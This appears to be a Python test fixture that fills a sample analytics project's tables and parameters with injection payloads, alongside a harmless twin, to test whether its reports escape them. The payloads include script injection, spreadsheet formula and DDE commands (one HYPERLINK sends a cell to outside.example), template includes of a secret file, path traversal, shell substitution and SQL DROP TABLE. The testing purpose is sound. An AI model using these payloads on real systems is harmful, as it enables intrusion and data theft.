"""A project whose every text is an attack, and its tame twin of the same shape.

The same rows and parameters twice: once each text is one of `ATTACKS` with a number behind it, once
as many plain letters. What differs between their pages, an attack has changed.
"""

from __future__ import annotations

import csv
import hashlib
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import yaml
from nbformat import write
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

from workbench.workspace import Workspace

__all__ = [
    "ATTACKS",
    "CANARY",
    "LATER",
    "LOUD",
    "SECRET",
    "SECRET_VARIABLE",
    "SUITE",
    "UNIT",
    "Project",
    "build",
    "tame",
]

SUITE, UNIT = "wild", "west"
CANARY = "__ran"
SECRET = "the-content-of-a-local-file"  # what secret.txt holds
SECRET_VARIABLE = "HOSTILE_VARIABLE"
LOUD = "loud"  # the report that prints, shows and raises what it is given
LATER = (LOUD, "segmentation")  # the reports that `Project.change` makes stale, and a run repeats
RUN = f"window.{CANARY}=1;document.title='{CANARY}';alert('{CANARY}')"

ATTACKS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'</style></title></textarea><img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onclick='{RUN}' tabindex='0",
    f"[press](javascript:{RUN}) <javascript:{CANARY}>",
    "![picture](../../../../secret.txt) ![](https://outside.example/x.png)",
    "[link]: https://outside.example 'title'\n\n[link] <https://outside.example>",
    "{{ 7 * 7 }} {% include 'secret.txt' %} {# gone #} ${7*7} #{7*7}",
    f"{{{{< env {SECRET_VARIABLE} >}}}} {{{{< include secret.txt >}}}} {{{{< meta title >}}}}",
    f"```\n</code></pre><script>{RUN}</script>\n````````\n![](/etc/hosts)\n~~~~~~~~\nx",
    f"```{{=html}}\n<script>{RUN}</script>\n```",
    f"`<script>{RUN}</script>`{{=html}} \\<script>",
    "---\ntitle: taken\nformat: {html: {embed-resources: false}}\n---",
    "# Heading\n\n::: {.callout-note}\n## Another\n:::\n\n| a | b |\n|---|---|",
    "$$\\frac{1}{0}$$ $x^{2$ \\(y\\) @fig-x [^1] [@cite]",
    "<!-- --> --!> ]]> <![CDATA[ <?php ?> <!DOCTYPE x> &lt;b&gt; &#60;b&#62; &amp;",
    "<meta http-equiv=refresh content='0;url=https://outside.example'>"
    "<base href=//outside.example>",
    "<link rel=stylesheet href=https://outside.example/x.css><style>body{display:none}</style>",
    "<form action=https://outside.example><input name=q autofocus><button>x</button></form>",
    "\u202egnp.exe \u2066hidden\u2069 \u200b\ufeff\u061c\u2028\u2029 \x1b[31mred\x07 \x85",
    '=HYPERLINK("https://outside.example?x="&A1,"press")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1\t=2+2",
    "%s %(x)s {0} {x!r} %n ${env:HOSTILE_VARIABLE} $HOME `id` $(id) ; DROP TABLE orders --",
    "constructor __proto__ toString NaN null undefined true 0 -1e999",
    "</main></body></html><body onload=alert(1)>",
)

# First letters that sort as the attacks do, among themselves and among words of the house (these
# begin with a lower-case letter); digits as letters, in their order.
_RANKS = dict(zip(sorted(ATTACKS), "0123456789ABCDEFGHIJKLMNOPQcxyz", strict=True))
_LETTERS = str.maketrans("0123456789", "ghijklmnop")

COLUMNS_EACH = 3  # columns beyond the canonical ones, in every table
CUSTOMERS = 90
AS_OF = date(2025, 6, 30)


def tame(attack: str, text: str) -> str:
    """Return plain letters, as many and as wide apart, that sort among their like as the text does.

    Parameters
    ----------
    attack
        The one of `ATTACKS` that the text begins with.
    text
        The attack with a number behind it.
    """
    filler = hashlib.sha256(attack.encode("utf-8", "replace")).hexdigest().translate(_LETTERS)
    endless = iter(_RANKS[attack] + filler * (len(text) // len(filler) + 1))
    words, gap, number = text.rpartition(" ")
    letters = "".join(" " if sign.isspace() else next(endless) for sign in words + gap)
    return letters + number.translate(_LETTERS)


@dataclass
class Words:
    """Gives out texts: attacks in their order, or their tame twins."""

    hostile: bool
    given: int = 0
    made: list[str] = field(default_factory=list)

    def __call__(self, number: int | None = None, *, one_line: bool = False) -> str:
        """Return a text: the next one, or always the same one for the same number."""
        if number is None:
            number, self.given = self.given, self.given + 1
        attack = ATTACKS[number % len(ATTACKS)]
        text = f"{attack} {number}"
        text = " ".join(text.split()) if one_line else text
        text = text if self.hostile else tame(attack, text)
        self.made.append(text)
        return text


@dataclass(frozen=True)
class Project:
    """A suite of one unit.

    Parameters
    ----------
    workspace
        Where it is.
    texts
        Each text that was given out, in the order of giving: the twin has its own at each place.
    """

    workspace: Workspace
    texts: list[str]

    def change(self) -> None:
        """Change parameters and rows, so that a second edition differs and one report fails."""
        path = self.workspace.params / SUITE / f"{UNIT}.yml"
        said = yaml.safe_load(path.read_text(encoding="utf-8"))
        said["reports"][LOUD]["stop"] = True
        first, second = said["reports"]["segmentation"]["rules"]
        for key in ("name", "advice"):
            first[key], second[key] = second[key], first[key]
        _dump(path, said)
        rows = self.workspace.root / "raw" / "orders.csv"
        with rows.open(newline="", encoding="utf-8") as file:
            header, *lines = csv.reader(file)
        amount = header.index("amount")
        for line in lines[-40:-1]:
            line[amount] = f"{float(line[amount]) + 100:.2f}"
        with rows.open("w", newline="", encoding="utf-8") as file:
            csv.writer(file, lineterminator="\n").writerows([header, *lines])


def build(root: Path, notebooks: Path, *, hostile: bool) -> Project:
    """Write a suite of one unit that has every table, all reports of the house, and a loud one.

    Parameters
    ----------
    root
        The new project's folder.
    notebooks
        The reports.
    hostile
        Attacks, or their tame twins.
    """
    words = Words(hostile)
    shutil.copytree(notebooks, root / "notebooks")
    _write_loud(root / "notebooks" / f"{LOUD}.ipynb")
    (root / "secret.txt").write_text(SECRET)
    sources = {name: _source(root, name, rows, words) for name, rows in _tables(words).items()}
    folder = root / "params" / SUITE
    folder.mkdir(parents=True)
    _dump(folder / "suite.yml", _suite(words))
    _dump(folder / f"{UNIT}.yml", {**_unit(words), "sources": sources, "tables": _loose()})
    return Project(Workspace(root), words.made)


def _write_loud(path: Path) -> None:
    """Write a report that hands on its texts by all ways that are not the report room's."""
    kinds = ["html", "markdown", "latex", "plain"]
    shown = ", ".join(f"'text/{kind}': text" for kind in kinds)
    cells = [
        new_raw_cell("---\ntitle: Loud\nquestion: What is shown of what nobody made safe?\n---"),
        new_code_cell(
            "suite: str = ''  # the suite\nunit: str = ''  # the unit\n"
            "snapshot: str = ''  # the snapshot\n"
            "texts: list[str] = []  # what it shows\nstop: bool = False  # whether it fails",
            metadata={"tags": ["parameters"]},
        ),
        new_markdown_cell("## What does it print?"),
        new_code_cell(
            "import sys\nfrom IPython.display import display\n"
            "from workbench.report import finding, metric, section\n"
            "print(*texts, sep='\\n')\nprint(*texts, sep='\\n', file=sys.stderr)"
        ),
        new_markdown_cell("## What does it show?"),
        new_code_cell(
            f"for text in texts:\n    display({{{shown}}}, raw=True)\n"
            "    display({'application/javascript': text, 'image/svg+xml': text,"
            " 'text/plain': text}, raw=True)"
        ),
        new_code_cell(
            "for place, text in enumerate(texts):\n"
            "    section(text, text, id=f'section-{place}')\n"
            "    finding(text, id=f'finding-{place}', decision=text)\n"
            "    metric(f'metric-{place}', None, label=text, unit='days', reason=text)"
        ),
        new_code_cell("if stop:\n    raise ValueError('\\n'.join(texts))"),
    ]
    for place, cell in enumerate(cells):
        cell["id"] = f"cell-{place}"
    notebook = new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    write(notebook, path)


def _dump(path: Path, content: dict[str, Any]) -> None:
    path.write_text(yaml.safe_dump(content, sort_keys=False), encoding="utf-8")


def _suite(words: Words) -> dict[str, Any]:
    return {
        "title": words(),
        "as_of": AS_OF.isoformat(),
        "owner": words(),
        "currency": "GBP",
        "timezone": "Europe/London",
        "min_group": 3,
    }


def _unit(words: Words) -> dict[str, Any]:
    """Return what a unit's file says, with a text of its own in every place for one."""
    low, high = ({"r": r, "f": [1, 5], "m": [1, 5]} for r in ([1, 2], [3, 5]))
    report = "segmentation"
    return {
        "title": words(),
        "owner": words(),
        "experiments": {
            name: {
                "title": words(),
                "hypothesis": words(),
                "decision": words(),
                "control": words(1000),
                "shares": {words(1000): 0.5, words(1001): 0.5},
                "metrics": {
                    "spend": {"column": "spend", "kind": "mean", "label": words(), "primary": True},
                    "bought": {"column": "bought", "kind": "proportion", "label": words()},
                },
            }
            for name in ("one", "two")
        },
        "reports": {
            report: {
                "rules": [
                    {
                        "name": words(2000),
                        **low,
                        "meaning": words(),
                        "advice": words(),
                        "valuable_at_risk": True,
                    },
                    {"name": words(2001), **high, "meaning": words(), "advice": words()},
                ],
                "holdout": 0.0,  # who is held out hangs on their key, and twins have other ones
            },
            "retention": {"by": _column("subscriptions", 0, words)},
            LOUD: {"texts": [words(9000 + n) for n in range(len(ATTACKS))]},
        },
        "goals": {
            f"{report}.customers": {"target": 5000, "direction": "up", "owner": words()},
        },
        "alerts": {
            "few": {
                "metric": f"{report}.customers",
                "when": "< 10000",
                "owner": words(),
                "why": words(),
            },
            "moved": {
                "metric": f"{report}.*",
                "when": "change > 0%",
                "owner": words(),
                "why": words(),
            },
        },
        "plans": {
            "act": {
                "report": report,
                "decision": words(),
                "when": "customers < 10000",
                "do": words(),
                "owner": words(),
            }
        },
    }


def _loose() -> dict[str, Any]:
    """Return limits that some rows break, so that triage has something to tell."""
    return {"orders": {"limits": {"amount": [-1000, 1000]}}}


def _column(table: str, number: int, words: Words) -> str:
    """Return the name of a column beyond the canonical ones."""
    place = sum(map(ord, table)) + number
    return words(3000 + place, one_line=True)


def _tables(words: Words) -> dict[str, list[dict[str, Any]]]:
    start = date(2024, 1, 10)
    day: Callable[[int], str] = lambda n: (start + timedelta(days=n % 530)).isoformat()  # noqa: E731
    person: Callable[[int], str] = lambda n: words(4000 + n)  # noqa: E731
    several: Callable[[int, int], str] = lambda group, n: words(5000 + group * 10 + n)  # noqa: E731
    everybody = range(CUSTOMERS)
    return {
        "customers": [
            {
                "customer_id": person(n),
                "joined_at": day(n * 5),
                "country": several(0, n % 3),
                "region": several(1, n % 4),
                "channel": several(2, n % 3),
                "department": several(3, n % 2),
                "name": words(7000 + n),
                "email": words(7100 + n),
                "phone": words(7200 + n),
                "marketing_consent": "true" if n % 5 else "false",
            }
            for n in everybody
        ],
        "orders": [
            {
                "order_id": words(8000 + n * 10 + line),
                "customer_id": person(n),
                "ordered_at": day(n * 7 + line * 60),
                "amount": f"{5 + (n * 13 + line * 7) % 90}.00" if n != 5 else "5000.00",
                "product_id": several(4, line),
                "category": several(5, line % 3),
                "channel": several(6, n % 3),
                "campaign_id": several(7, n % 2),
            }
            for n in everybody
            for line in range(1 + n % 4)
        ],
        "subscriptions": [
            {
                "subscription_id": words(20000 + n),
                "customer_id": person(n),
                "started_at": day(n * 4),
                "ended_at": day(n * 4 + 90) if n % 3 == 0 and n * 4 + 90 < 530 else "",
                "end_reason": several(8, n % 3) if n % 3 == 0 else "",
                "plan": several(9, n % 3),
                "monthly_amount": "10.00",
            }
            for n in everybody
        ],
        "interactions": [
            {
                "interaction_id": words(30000 + n),
                "customer_id": person(n),
                "opened_at": day(n * 5),
                "channel": several(10, n % 3),
                "topic": several(11, n % 4),
                "priority": several(12, n % 3),
                "team": several(13, n % 2),
                "agent_id": several(14, n % 5),
                "text": words(31000 + n),
            }
            for n in everybody
        ],
        "assignments": [
            {
                "experiment_id": name,
                "customer_id": person(n),
                "variant": words(1000 + n % 2),
                "assigned_at": day(300),
                "spend": str(20 + (n * 7) % 30 + (n % 2) * 15),
                "bought": str((n // 2) % 2 or n % 2),
            }
            for name in ("one", "two", words(6000))
            for n in everybody
        ],
        "touchpoints": [
            {
                "touchpoint_id": words(40000 + n),
                "customer_id": person(n),
                "touched_at": day(n * 5),
                "campaign_id": several(7, n % 2),
                "channel": several(15, n % 3),
            }
            for n in everybody
        ],
        "campaigns": [
            {
                "campaign_id": several(7, n),
                "name": words(50000 + n),
                "channel": several(15, n),
                "started_at": day(n),
            }
            for n in range(2)
        ],
    }


_TYPES = {
    "joined_at": "date",
    "marketing_consent": "boolean",
    "ordered_at": "date",
    "started_at": "date",
    "ended_at": "date",
    "opened_at": "date",
    "assigned_at": "date",
    "touched_at": "date",
    "amount": "decimal",
    "monthly_amount": "decimal",
    "spend": "decimal",
    "bought": "integer",
}


def _source(root: Path, table: str, rows: list[dict[str, Any]], words: Words) -> dict[str, Any]:
    """Write a table as a CSV file, and return what the unit's file says of it."""
    extra = [_column(table, number, words) for number in range(COLUMNS_EACH)]
    for n, row in enumerate(rows):
        row |= {name: words(60000 + 10 * place + n % 3) for place, name in enumerate(extra)}
    path = root / "raw" / f"{table}.csv"
    path.parent.mkdir(exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        writer.writerow({**rows[0], next(iter(_known(rows[0]))): words()})  # a row that is refused
    types = {name: kind for name, kind in _TYPES.items() if name in rows[0]}
    attack = words().replace("'", "''")
    return {
        "main": {
            "path": f"raw/{table}.csv",
            "types": types,
            "rules": {
                "odd": {
                    "check": f"_row > 3 or '{attack}' is null",
                    "severity": "warn",
                    "title": words(),
                    "why": words(),
                    "fix": words(),
                },
                "bad": {"check": "_row <> 1", "title": words(), "why": words(), "fix": words()},
            },
            "department": words(),
        }
    }


def _known(row: dict[str, Any]) -> list[str]:
    """Return the dated columns of a row: a text in one of them is no date."""
    return [name for name in row if _TYPES.get(name) == "date"] or [next(iter(row))]
